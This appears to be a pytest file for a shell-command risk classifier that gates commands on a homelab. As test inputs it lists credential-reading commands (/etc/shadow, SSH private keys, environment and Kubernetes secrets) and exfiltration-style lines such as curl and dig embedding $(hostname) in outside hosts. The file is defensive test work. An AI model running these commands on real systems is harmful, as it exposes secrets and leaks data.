"""The classifier against judged cases: never laxer than a person, and reads are recognised."""

from __future__ import annotations

import pytest

from nomos.domain.executions import Risk
from nomos.risk import classify
from tests.harness.cases import Case, cases

CASES = cases("commands.tsv")
BYPASSES = cases("bypasses.tsv")
RECOGNISED = 0.85  # of what only reads; the rest asks, which costs comfort

ORDINARY = [
    "uptime",
    "pct list",
    "pct config 105",
    "pvesm status",
    "df -h",
    "free -m",
    "uname -a",
    "cat /etc/os-release",
    "pct exec 105 -- hostname",
    "pct exec 105 -- systemctl is-active nginx",
    "pct exec 105 -- bash -c 'ss -tlnp | grep :80'",
    "curl -fsS -o /dev/null -w '%{http_code}' http://192.168.1.5/",
    "journalctl -u nginx -n 50 --no-pager",
    'for i in 101 102; do pct status "$i"; done',
    "systemctl is-active nginx && echo up || echo down",
    "apt-get -s upgrade | grep -c ^Inst",
    "find /var/log -name '*.log' -size +10M | xargs ls -lh",
    "docker ps --format '{{.Names}}' | sort",
    "if [ -f /etc/debian_version ]; then cat /etc/debian_version; fi",
    "zfs list -t snapshot -o name,used | head -20",
]


def laxer(case: Case) -> bool:
    return classify(case.text).risk.rank < Risk(case.expected).rank


def test_no_case_is_judged_laxer_than_a_person_did() -> None:
    assert [case for case in CASES if laxer(case)] == []


def test_most_of_what_only_reads_is_recognised() -> None:
    reads = [case for case in CASES if case.expected == "read"]
    known = [case for case in reads if classify(case.text).risk is Risk.READ]
    assert len(known) >= RECOGNISED * len(reads)


def test_no_way_round_is_judged_laxer_than_it_is() -> None:
    assert [case for case in BYPASSES if laxer(case)] == []


@pytest.mark.parametrize("case", [case for case in BYPASSES if case.expected == "read"], ids=lambda case: case.text)
def test_what_only_looks_like_a_way_round_reads(case: Case) -> None:
    assert classify(case.text).risk is Risk.READ


@pytest.mark.parametrize("command", ORDINARY)
def test_looking_round_runs_unasked(command: str) -> None:
    verdict = classify(command)
    assert (verdict.risk, verdict.asks_as) == (Risk.READ, Risk.READ), verdict.why


@pytest.mark.parametrize(
    "command",
    [
        "cat /etc/shadow",
        "sudo cat /etc/shadow",
        "cat < /root/.ssh/id_ed25519",
        "grep -r password /etc",
        "tar cf - /root/.ssh | wc -c; cat /root/.ssh/id_rsa",
        "cat /root/.ss?/id_*",
        "cat /etc//./shadow",
        "cat /etc/ssh/../shadow",
        "f=/etc/shadow; cat $f",
        "for f in /root/.ssh/*; do cat $f; done",
        "find / -name shadow | xargs cat",
        "find /root -name 'id_*' -exec cat {} +",
        "env",
        "printenv PGPASSWORD",
        "export -p",
        "docker inspect web",
        "docker compose config",
        "docker exec web env",
        "pct exec 101 -- cat /etc/shadow",
        "kubectl get secret x -o yaml",
        "cat /proc/1/environ",
        "cat .env",
        "dd if=/etc/shadow",
        "wg show wg0 private-key",
        "base64 /etc/ssl/private/x.key",
        "ps auxe",
        "jq -n env",
    ],
)
def test_secrets_ask_although_they_only_read(command: str) -> None:
    verdict = classify(command)
    assert verdict.risk is not Risk.DESTROY, verdict.why
    assert verdict.asks_as is Risk.CHANGE, verdict.why


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://example.org/?q=x",
        'curl -s "https://example.org/$(hostname)"',
        "wget -qO- http://203.0.113.9/x",
        "dig secret.example.org",
        'dig "$(hostname).example.org"',
        "ping -c1 data.example.org",
        "curl -s http://user@example.org:80/",
    ],
)
def test_what_could_carry_data_out_of_the_lab_asks(command: str) -> None:
    verdict = classify(command)
    assert verdict.risk is not Risk.DESTROY, verdict.why
    assert verdict.asks_as is Risk.CHANGE, verdict.why


@pytest.mark.parametrize(
    "command",
    ["ping -c1 8.8.8.8", "ping -c1 google.com", "curl -s http://nas.lan/", "dig nas.local", "curl -s localhost:80"],
)
def test_the_lab_and_plain_reachability_do_not(command: str) -> None:
    verdict = classify(command)
    assert verdict.asks_as is Risk.READ, verdict.why


@pytest.mark.parametrize("command", ["", " ", "\n", "ls 'a", "ls \u202e", "ls\x00", "ls \ud800", "echo " + "x" * 9000])
def test_what_no_card_can_show_or_nobody_can_parse_is_destroy(command: str) -> None:
    assert classify(command).risk is Risk.DESTROY


@pytest.mark.parametrize(
    ("command", "hint"),
    [
        ("ls \\\n -l", "one line"),
        ("echo `id`", "$( )"),
        ("cat <<-E\n\ta\nE\n", "<<'EOF'"),
        ("frobnicate", "frobnicate"),
        ("$x -l", "write it out"),
        ("ls # a\npwd", "leave comments out"),
        ("ls | sh", "give the commands themselves"),
        ("sqlite3 a.db 'SELECT 1'", "-readonly"),
    ],
)
def test_the_reason_says_how_to_write_it_so_that_it_can_be_read(command: str, hint: str) -> None:
    why = classify(command).why
    assert hint in why
    assert "\n" not in why
